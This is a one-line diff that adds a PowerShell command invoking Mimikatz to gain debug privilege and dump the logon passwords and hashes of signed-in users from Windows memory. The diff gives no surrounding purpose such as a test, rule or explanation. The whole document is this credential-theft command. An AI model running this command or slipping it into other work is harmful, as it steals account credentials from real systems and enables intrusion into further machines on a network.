@@ -1,0 +1,1 @@
+Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"'
